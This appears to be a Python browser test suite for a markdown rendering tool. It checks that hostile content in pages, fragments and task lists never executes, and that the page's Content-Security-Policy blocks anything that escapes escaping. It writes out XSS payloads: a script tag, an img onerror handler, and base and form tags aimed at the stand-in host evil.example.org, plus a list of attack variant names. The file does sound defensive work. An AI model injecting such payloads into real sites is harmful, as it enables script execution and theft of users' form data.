#!/usr/bin/env python3
"""Hostile talks in Chromium: nothing that they smuggle in runs, loads or goes
anywhere, in pages, fragments and lists; and should something get past the
escaping, the pages' policy stops it."""
import os
import pathlib
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
TESTS = os.path.dirname(HERE)
sys.path[:0] = [os.path.join(TESTS, "pages"), HERE]
import documents  # noqa: E402
import pages  # noqa: E402
from pages import tap  # noqa: E402

RUN = documents.RUN.encode()
# What to press; a link that leads away would end the page.
EVERYTHING = "a[href^='#'], a[href^='javascript:' i], p, li, span, td, button"
FORMS = ("inline.", "attributes.", "raw-inline.", "url.")
# Some of each sort: html_checker.py looks at all of them.
ATTACKS = set("""script title-end style-end cell-end img svg iframe base meta
    form details comment quote quote-single quote-script ff entity entity-number
    js js-case js-tab js-lf js-c0 js-entity-tab js-percent js-quote js-vt data
    data-svg vbscript view-source http-quote http-tag mailto-tag""".split())
# A part of a page that got past the escaping, and the directive that stops it.
SMUGGLED = {
    b"<script>" + RUN + b"</script>": "script-src-elem",
    b'<img src="data:," onerror="' + RUN + b'">': "script-src-attr",
    b'<base href="https://evil.example.org/">': "base-uri",
    b'<form action="https://evil.example.org/"><button class="press">x'
    b"</button></form>": "form-action",
}


class Browser(pages.Case):
    def whole(self, form):
        """The bodies of all documents of a form, as one talk."""
        return "\n\n".join(text for name, text in documents.documents()
                           if name.startswith(form)
                           and name.split(".")[1] in ATTACKS).encode()

    def sources(self):
        """A talk a form, and some with front matter."""
        found = {form.strip("."): self.whole(form) for form in FORMS}
        of = dict(documents.documents())
        for name in ("title-end", "style-end", "quote-script", "base"):
            found[f"front.{name}"] = of[f"front.{name}"].encode()
            found[f"languages.{name}"] = of[f"languages.{name}"].encode()
        return found

    def assert_quiet(self, made):
        wrong = []
        for name, _, found in self.look("loading", made, {},
                                        press=EVERYTHING):
            address = pathlib.Path(made[name]).as_uri()
            if found["ran"] is not None or [
                    r for r in found["requests"] if r.startswith("data:")]:
                wrong.append((name, found))
            blocked = set(found["violations"]) - {"img-src"}
            if blocked or not found["url"].startswith((address, "http")):
                wrong.append((name, found))
        self.assertEqual(wrong, [])

    def test_nothing_in_a_page_runs(self):
        found = self.sources()
        self.assert_quiet(self.pages({name: found[name] for name in (
            "inline", "front.title-end", "languages.quote-script")}))

    def test_nothing_in_a_fragment_runs_where_no_policy_holds(self):
        made = self.pages(self.sources(), "--fragment")
        for path in made.values():
            body = pages.read(path)
            with open(path, "wb") as file:
                file.write(b"<!DOCTYPE html><meta charset=utf-8><title>x"
                           b"</title><body>" + body)
        self.assert_quiet(made)

    def lists(self):
        folder = self.path("talks")
        os.mkdir(folder)
        for name, text in self.sources().items():
            self.write(f"talks/{name}.md", text)
        made = {}
        for form in ("html", "ledger-html"):
            made[form] = self.write(f"list.{form}.html", self.talkmark(
                "tasks", "-f", form, "--today", pages.TODAY, "talks").stdout)
        return made

    def test_nothing_in_a_list_runs(self):
        self.assert_quiet(self.lists())

    def smuggle(self, keep_policy):
        """A page of each kind with all of SMUGGLED put into it."""
        talk = self.write("x.md", "# T\n\n[a](issue:b)\n")
        made = {}
        for kind, words in {"page": ["render"], "html": ["tasks", "-fhtml"],
                            "ledger": ["tasks", "-fledger-html"]}.items():
            page = self.talkmark(*words, talk).stdout
            self.assertIn(b"Content-Security-Policy", page)
            if not keep_policy:
                page = page.replace(b"Content-Security-Policy", b"x-none")
            before, body, after = page.partition(b"<body")
            tag, end, rest = after.partition(b">")
            made[kind] = self.write(f"{kind}.html", before + body + tag + end
                                    + b"".join(SMUGGLED) + rest)
        return made

    def test_what_got_past_the_escaping_is_stopped_by_the_policy(self):
        made = self.smuggle(True)
        self.assertEqual(len(made), 3)
        for kind, _, found in self.look("loading", made, {}, press=".press"):
            with self.subTest(page=kind):
                self.assertIsNone(found["ran"])
                self.assertLessEqual(set(SMUGGLED.values()),
                                     set(found["violations"]))

    def test_without_the_policy_it_would_run(self):
        made = self.smuggle(False)
        self.assertEqual(len(made), 3)
        for _, _, found in self.look("loading", made, {}):
            self.assertEqual(found["ran"], 1)


if __name__ == "__main__":
    tap.main()
